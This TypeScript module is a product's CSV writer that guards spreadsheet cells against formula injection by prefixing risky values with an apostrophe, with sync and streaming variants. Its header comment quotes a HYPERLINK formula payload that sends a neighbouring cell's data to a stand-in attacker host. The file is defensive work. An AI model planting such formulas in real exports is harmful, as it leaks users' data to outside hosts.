import { stringify as stringifyStream, type Stringifier } from 'csv-stringify';
import { stringify } from 'csv-stringify/sync';

/**
 * The product's one way of writing CSV. A spreadsheet runs a cell that starts with = + - @, a tab
 * or a carriage return as a formula (`=HYPERLINK("http://evil.example/?d="&C2,"John")` sends the
 * row next to it away when clicked), so every text cell of every CSV the product writes passes
 * through {@link guardCell}: such a cell gets a leading apostrophe, which a spreadsheet shows as
 * text and the employee import removes again. Figures stay figures: a number, or a text of digits
 * that may start with a sign (a negative amount, a phone number such as +1 555 0100), has no
 * function or cell reference a spreadsheet could run, and is written as it is.
 */

/** How a column's cells are written: figures as they are, anything else guarded. */
export type CsvColumnKind = 'text' | 'number';

/** A cell starting with one of these is a formula to a spreadsheet, unless it is digits only. */
const FORMULA = /^[=@\t\r]|^[+-](?![\d\s().,-]*$)/;
/** A figure a numeric column may hold: an optional sign, digits, decimals. */
const FIGURE = /^[+-]?\d+(\.\d+)?$/;

/** A text cell a spreadsheet would run as a formula, with a leading apostrophe; others unchanged. */
export function guardCell(value: string): string {
  return FORMULA.test(value) ? `'${value}` : value;
}

/** The inverse of {@link guardCell} for a file the product wrote and a person sends back (the employee import). */
export function unguardCell(value: string): string {
  return value.startsWith("'") && FORMULA.test(value.slice(1)) ? value.slice(1) : value;
}

/** A cell's text as written: numbers in numeric columns as they are, every other text guarded. */
export function csvCell(value: unknown, kind: CsvColumnKind = 'text'): string | number {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? value : '';
  if (typeof value === 'bigint') return value.toString();
  const text = value instanceof Date ? value.toISOString() : String(value);
  if (kind === 'number' && FIGURE.test(text)) return text;
  return guardCell(text);
}

function cells(row: readonly unknown[], kinds?: readonly CsvColumnKind[]): (string | number)[] {
  return row.map((v, i) => csvCell(v, kinds?.[i]));
}

/**
 * A whole CSV document (header row, then the rows), every cell guarded. `bom` starts it with a
 * byte order mark so a spreadsheet reads it as UTF-8.
 */
export function toCsv(header: readonly string[], rows: readonly (readonly unknown[])[], options: { kinds?: readonly CsvColumnKind[]; bom?: boolean } = {}): string {
  const text = stringify([cells(header), ...rows.map((r) => cells(r, options.kinds))]);
  return options.bom ? `\uFEFF${text}` : text;
}

/**
 * A CSV stream written row by row (backpressure through the stream's own `write` result). Each
 * row's cells are guarded by the column kinds; a text that reaches the stream any other way is
 * still guarded by the stream's cast, so nothing written through it can run as a formula.
 */
export class CsvStream {
  readonly stream: Stringifier;

  constructor(
    header: readonly string[],
    private readonly kinds: readonly CsvColumnKind[] = [],
    options: { bom?: boolean } = {},
  ) {
    this.stream = stringifyStream({ bom: options.bom ?? false, cast: { string: (v, ctx) => (this.kindAt(ctx.column) === 'number' && FIGURE.test(v) ? v : guardCell(v)) } });
    this.stream.write(cells(header));
  }

  private kindAt(column: number | string | undefined): CsvColumnKind {
    return typeof column === 'number' ? (this.kinds[column] ?? 'text') : 'text';
  }

  /** Writes a row; false when the stream asks the caller to wait for 'drain'. */
  write(row: readonly unknown[]): boolean {
    return this.stream.write(cells(row, this.kinds));
  }

  end(): void {
    this.stream.end();
  }
}
